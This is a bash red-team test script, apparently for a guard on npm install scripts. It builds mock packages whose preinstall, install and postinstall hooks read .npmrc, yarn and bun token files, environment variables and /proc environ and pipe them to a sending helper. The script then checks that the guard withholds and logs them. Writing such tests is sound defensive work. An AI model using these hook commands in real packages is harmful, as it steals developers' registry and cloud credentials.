#!/bin/bash
# R16: what no honest script needs is not there to be stolen: the secrets of the environment, and
# the tokens in the configuration of package managers. Each script is held at its exec until its
# environment is free of them; a helper of the same package that continues it early gains nothing.
# A file with a token is there for npm itself, and for nobody in a package.
set -u
cd "$(dirname "$0")/../.." || exit 2
. tests/redteam/lib.sh

rt_begin R16 'npmrc and environment'
rt_package read-npmrc-x 1.0.0 files postinstall 'node take.js .npmrc'
rt_package read-environment-x 1.0.0 - postinstall \
	"node -e \"require('./kit.js').post('/env', process.env)\""
rt_package read-printenv-x 1.0.0 files postinstall 'env | node post-stdin.js'
rt_package read-proc-x 1.0.0 files install \
	'cat /proc/self/environ /proc/$$/environ | node post-stdin.js'
rt_package read-python-x 1.0.0 files preinstall \
	"python3 -c 'import os; print(dict(os.environb))' | node post-stdin.js"
rt_package read-nested-x 1.0.0 files postinstall \
	'npm run --silent again; npm config list -l | node post-stdin.js'
rt_package read-npm-x 1.0.0 files postinstall \
	'(npm config list --json; cat "$npm_config_userconfig") | node post-stdin.js'
rt_package read-get-x 1.0.0 files postinstall \
	'npm config get "//${npm_config_registry#*//}:_authToken" | node post-stdin.js'
rt_package read-bash-x 1.0.0 files preinstall \
	"bash -c 'printenv; echo \"\$(<~/.npmrc)\"; cat ~/.yarnrc.yml ~/.bunfig.toml' |
	node post-stdin.js"
rt_package read-pyfile-x 1.0.0 files install \
	"python3 -c 'import os; print(open(os.environ[\"INIT_CWD\"] + \"/.npmrc\").read())' |
	node post-stdin.js"
rt_package read-linked-x 1.0.0 files postinstall \
	'cat "$INIT_CWD/notes.txt" /proc/self/root$HOME/.npmrc | node post-stdin.js'
rt_package read-program-x 1.0.0 files preinstall \
	"for m in openat openat2 mmap uring thread; do ./bin/open \$m ~/.npmrc $RT_SINK; done" open
# what the job wrote itself, in the forms of other managers; one file has a second name
rt_setup() {
	local name token
	for name in .yarnrc.yml .bunfig.toml work/app/.npmrc; do
		token=$(head -c 20 /dev/urandom | od -An -tx1 | tr -d ' \n')
		case $name in
		*.yml) echo "npmAuthToken: \"$token\"" ;;
		*.toml) echo "install.registry = { url = 'http://h/', token = '$token' }" ;;
		*) echo "//127.0.0.1:9/:_authToken=$token" ;;
		esac >"$RT_HOME/$name"
		chown "$LAB_UID:$LAB_GID" "$RT_HOME/$name"
		rt_canary "$name" "$token"
	done
	ln "$RT_HOME/.npmrc" "$RT_PROJECT/notes.txt"
}

rt_control
rt_leaked .npmrc .yarnrc.yml .bunfig.toml work/app/.npmrc env:NPM_TOKEN env:GITHUB_TOKEN \
	env:AWS_SECRET_ACCESS_KEY

if rt_guarded; then
	rt_is 'at the sink' "$(lab_leaked web)" ''
	rt_ok 'the log names what was withheld' \
		[ -n "$(rt_events 'wormsign.withheld.names=NPM_TOKEN')" ]
	for name in read-npmrc-x read-bash-x read-pyfile-x read-linked-x read-program-x; do
		rt_ok "it names who was refused a file: $name" \
			[ -n "$(rt_events 'rule.id=npmrc-hidden' wormsign.effect=refused \
			"package.name=$name")" ]
	done
	rt_is 'accused: who asks for a token by name' "$(rt_accusations '."package.name"')" \
		read-get-x
	rt_files_kept
	rt_no_survivors
	rt_honest_installed
fi
rt_end
